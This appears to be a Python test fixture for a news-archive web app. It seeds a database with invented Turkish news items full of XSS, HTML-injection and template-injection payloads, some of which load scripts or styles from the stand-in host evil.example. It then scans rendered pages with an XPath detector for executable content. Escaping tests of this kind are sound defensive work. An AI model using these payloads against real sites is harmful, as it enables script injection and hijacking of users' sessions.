"""Strings that would run, load or break something wherever a page took them for more than text, and a ledger full of them."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import lxml.html

import tutanak
from tutanak.ledger import Ledger, Source
from tutanak.ledger.entry import entry
from tutanak.stories.shelving import gather

STRINGS = (
    "<script>owned=1</script>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=owned=1>", "<svg onload=owned=1>",
    "<svg><script>owned=1</script></svg>", "<body onload=owned=1>", "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    "<iframe src=javascript:parent.owned=1></iframe>", "<a href=javascript:owned=1 id=bait>x</a>", "<a href='java\tscript:owned=1'>x</a>",
    "<input autofocus onfocus=owned=1>", "<details open ontoggle=owned=1>x</details>", "<video><source onerror=owned=1></video>",
    "<math><mtext><style><img src=x onerror=owned=1></style></mtext></math>", "<marquee onstart=owned=1>x</marquee>",
    "<object data=javascript:owned=1></object>", "<embed src=//evil.example/x.swf>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>", "<form action=//evil.example/><button>x</button></form>",
    "\"><script>owned=1</script>", "'><script>owned=1</script>", "\" onmouseover=\"owned=1", "' onfocus='owned=1' autofocus='",
    "--><script>owned=1</script>", "</title><script>owned=1</script>", "</textarea><script>owned=1</script>",
    "</script><script>owned=1</script>", "<!--<script>owned=1//-->",
    "{{ 7 * 7 }}{{ request.app }}", "{% for x in () %}{% endfor %}", "${7*7}#{7*7}", "<div hx-get=//evil.example/ hx-trigger=load>x</div>",
    "<div hx-on:htmx:load=owned=1>x</div>", "&lt;script&gt;owned=1&lt;/script&gt;", "&#60;script&#62;owned=1", "＜script＞owned=1＜/script＞",
    "<template shadowrootmode=open><script>owned=1</script></template>", "\u202e<gnirts>\u202c\u2066", "]]><script>owned=1</script><![CDATA[",
)  # fmt: skip
"""In each `owned` is what a script would leave behind."""

ADDRESSES = ("javascript:owned=1//{n}", "data:text/html,<script>parent.owned=1</script>{n}", "https://example.org/{n}?{told}", "//evil.example/{n}",
             "vbscript:owned {n}", " javascript:owned=1 //{n}")  # fmt: skip

TEXT = """Azerbaycan Cumhurbaşkanı Elçin Nazarov ile Rusya Devlet Başkanı Viktor Sokolov, Bakü’de bir araya geldi.
Sokolov, “İkili ticaret hacmi {told} geçen yıl yüzde {n} büyüdü. Hazar {told} Projesi devam ediyor.” dedi.
{told}
Nazarov, “Rusya ile {told} ilişkilerimizi geliştirmeyi hedefliyoruz.” ifadelerini kullandı. NATO, {told} çağrısında bulundu.
"""

RUNNING = """//script[not(starts-with(@src, '/static/')) and not(@type='application/ld+json')] | //iframe | //object | //embed | //base | //video
    | //template | //math | //marquee | //style | //form[starts-with(@action, '/')=false()] | //link[starts-with(@href, '/')=false()]
    | //meta[@http-equiv] | //*[@*[starts-with(name(), 'on') or starts-with(name(), 'hx-on')]] | //*[@hx-get and not(starts-with(@hx-get, '/'))]
    | //img"""
"""Elements that no page of ours has, or has in this way."""

LEADING = ("/", "#", "?", "https://", "http://", "mailto:")


def fill(ledger: Ledger) -> None:
    """A ledger in which every text, title, outlet, author, address and name is one of the strings."""
    with ledger.store.writing() as connection:
        ledger.writer(connection).add(list(_entries()))
    gather(ledger)


def _entries() -> Iterator[tuple[Any, Source]]:
    for n, told in enumerate(STRINGS):
        day = f"2031-{n % 12 + 1:02}-{n % 28 + 1:02}"
        minutes = tutanak.read(TEXT.format(told=told, n=n), published=day, language="tr").to_dict(all=True)
        for one in (*minutes["people"], *minutes["organisations"], *minutes["places"]):
            one["name"] = f"{told} {n}"
            one["office"] = told if one.get("office") else None
        url = ADDRESSES[n % len(ADDRESSES)].format(n=n, told=told)
        yield entry(minutes, day), Source(url=url, outlet=told, author=told, title=told, published=day)


PLACES = (
    "/search?q={}", "/{}", "/pair/{}", "/article/{}", "/record/{}", "/person/{}", "/organisation/{}", "/undertaking/{}", "/story/{}", "/?lang={}",
    "/pair/az-ru?speaker={0}&topic={0}&outlet={0}", "/pair/az-ru?since={0}&page={0}", "/login?to={}", "/search.json?q={}", "/api/v1/people/{}",
)  # fmt: skip


def asked(each: int = len(PLACES)) -> Iterator[str]:
    """Addresses that hold the strings themselves, each at so many places."""
    for n, told in enumerate(STRINGS):
        for place in range(each):
            yield PLACES[(n * each + place) % len(PLACES)].format(quote(told, safe=""))


def running(html: str) -> list[str]:
    """What of a page is more than text and should not be."""
    page = lxml.html.fromstring(html)
    found = [lxml.html.tostring(node, encoding="unicode")[:150] for node in page.xpath(RUNNING)]
    return found + [href for href in page.xpath("//@href | //@src | //@action | //@xlink:href", namespaces={"xlink": "http://www.w3.org/1999/xlink"})
                    if not href.startswith(LEADING) or href.startswith(("//", "/\\"))]  # fmt: skip
